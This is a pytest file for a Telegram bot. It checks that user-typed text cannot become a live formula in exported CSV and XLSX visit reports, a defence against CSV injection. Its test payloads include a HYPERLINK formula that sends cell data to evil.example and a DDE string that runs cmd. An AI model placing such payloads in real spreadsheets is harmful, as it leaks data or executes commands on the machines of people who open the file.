"""Text typed into chat never becomes a live formula in a report opened by Excel or LibreOffice (OWASP CSV
injection): addresses, household heads' names, notes and Telegram display names, in CSV and XLSX."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.app import Troly
from bot.cli import main
from bot.spreadsheets import FORMULA_STARTS, csv_bytes, safe_cell, xlsx_bytes
from tests.helpers import joined, say
from tests.visits_helpers import import_sample, invite_code

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C notepad'!'A1'"
PAYLOADS = (HYPERLINK, DDE, "=1+1", "+1+1", "-2+3", "@SUM(1+1)")


def _member(app: Troly, user: str, display_name: str) -> None:
    reply = joined(say(app, f"/thamgia {invite_code(app, '22-MC-K1')}", user=user, user_name=display_name))
    assert "Chào mừng" in reply, reply


@pytest.fixture
def poisoned(sqlite_app: Troly, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Troly:
    """Visits whose every free-text part, and the members' display names, hold formula payloads."""
    app = sqlite_app
    import_sample(app)
    for number, payload in enumerate(PAYLOADS):
        _member(app, f"m{number}", payload if number % 2 == 0 else "\t" + payload)
    # The guided dialog stores the same parts as the one-line form: an address, a new head, a note.
    for answer in ("/ghinhan", DDE, HYPERLINK, "1", "tiếp tục", "xong", "2", "=1+1", "bỏ qua"):
        say(app, answer, user="m0", user_name=PAYLOADS[0])
    assert "Đã lưu lượt thăm" in joined(say(app, "lưu", user="m0", user_name=PAYLOADS[0]))
    for number, payload in enumerate(PAYLOADS):
        line = f"/ghinhan {payload} ; {PAYLOADS[-1 - number]} ; vneid ; xong ; {payload}"
        assert "Đã lưu lượt thăm" in joined(say(app, line, user=f"m{number}", user_name=""))
    monkeypatch.setenv("TROLY_DATABASE_URL", app.settings.resolved_database_url)
    monkeypatch.setenv("TROLY_DATA_DIR", str(tmp_path / "var"))
    return app


def _export(tmp_path: Path, fmt: str) -> Path:
    target = tmp_path / f"report.{fmt}"
    assert main(["report", "visits", "--area", "22", "--format", fmt, "--output", str(target)]) == 0
    return target


def test_xlsx_report_holds_no_formula_and_keeps_numbers(poisoned: Troly, tmp_path: Path) -> None:
    sheet = load_workbook(_export(tmp_path, "xlsx")).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.lstrip()[:1] in FORMULA_STARTS]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(PAYLOADS) + 1
    assert all(isinstance(row[0], int) and isinstance(row[10], int) for row in rows)  # ids and head counts
    guided, first = rows[0], rows[1]
    assert (guided[6], guided[7], guided[11]) == ("'" + DDE, "'" + HYPERLINK, "'=1+1")
    assert guided[5] == first[5] == "'" + HYPERLINK  # the Telegram display name
    assert (first[6], first[7], first[11]) == ("'" + HYPERLINK, "'@SUM(1+1)", "'" + HYPERLINK)
    assert rows[2][5] == "'" + DDE  # the core trims the display name's leading tab; the formula stays inert


def test_csv_report_holds_no_cell_a_spreadsheet_would_run(poisoned: Troly, tmp_path: Path) -> None:
    text = _export(tmp_path, "csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] in FORMULA_STARTS]
    assert sum(1 for cell in cells if cell.startswith("'=")) >= 12
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, len(PAYLOADS) + 2)]
    assert rows[4][6:8] == ["'=1+1", "'+1+1"] and rows[6][6] == "'-2+3" and rows[7][5] == "'@SUM(1+1)"


@pytest.mark.parametrize("payload", [*PAYLOADS, "\r=1+1", " =1+1", "＝1+1", "\t@x"])
def test_every_writer_neutralises_risky_text(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a", "b"], [[payload, 42]], title="t"))).active
    assert sheet is not None and sheet["A2"].data_type == "s" and sheet["B2"].value == 42
    (row,) = list(csv.reader(io.StringIO(csv_bytes(["a", "b"], [[payload, -7]]).decode("utf-8-sig"))))[1:]
    assert row == ["'" + payload, "-7"]


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "Số 12 ngõ 5", "*******678", "", 12, -3.5, None])
def test_ordinary_values_are_left_as_they_are(value: object) -> None:
    assert safe_cell(value) == value
